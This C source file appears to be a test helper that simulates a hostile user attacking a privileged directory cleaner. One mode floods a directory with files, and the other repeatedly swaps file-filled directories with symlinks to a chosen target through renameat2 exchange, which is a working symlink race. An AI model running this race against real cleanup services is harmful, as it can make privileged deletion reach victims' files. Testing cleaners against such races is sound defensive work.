/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * What a user may do to whoever clears up after him.
 *
 *   mess files DIR N          N empty files in DIR
 *   mess race DIR TARGET MS   exchanges directories DIR/d*, which have files,
 *                             with DIR/l*, links to TARGET, and makes both anew
 *                             where they are gone, for so many milliseconds
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

/* RENAME_EXCHANGE; musl has neither it nor the call. */
#define EXCHANGE 2
/* So many chances has each race. */
#define PAIRS 8

static int files(int dir, long n)
{
	char name[32];
	int fd;

	for (long i = 0; i < n; i++) {
		snprintf(name, sizeof(name), "file-%ld", i);
		fd = openat(dir, name, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
		if (fd < 0)
			return -1;
		close(fd);
	}
	return 0;
}

static void make(int dir, const char *d, const char *l, const char *target)
{
	char file[32];

	mkdirat(dir, d, 0700);
	for (int i = 1; i <= 3; i++) {
		snprintf(file, sizeof(file), "%s/%d", d, i);
		mknodat(dir, file, S_IFREG | 0600, 0);
	}
	(void)!symlinkat(target, dir, l);
}

static long long now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

/* Ends early when DIR has been removed: nothing can be made in it then. */
static int race(int dir, const char *target, long ms)
{
	long long end = now_ms() + ms;
	char d[16], l[16];
	struct stat st;

	for (long i = 0; i % PAIRS || now_ms() < end; i++) {
		snprintf(d, sizeof(d), "d%ld", i % PAIRS);
		snprintf(l, sizeof(l), "l%ld", i % PAIRS);
		if (!syscall(SYS_renameat2, dir, d, dir, l, EXCHANGE))
			continue;
		if (!fstat(dir, &st) && !st.st_nlink)
			return 0;
		make(dir, d, l, target);
	}
	return 0;
}

int main(int argc, char **argv)
{
	int dir = argc > 3 ? open(argv[2], O_RDONLY | O_DIRECTORY) : -1;
	int rc = -1;

	if (dir >= 0 && !strcmp(argv[1], "files"))
		rc = files(dir, atol(argv[3]));
	else if (dir >= 0 && argc > 4 && !strcmp(argv[1], "race"))
		rc = race(dir, argv[3], atol(argv[4]));
	if (rc < 0)
		perror("mess");
	return rc < 0;
}
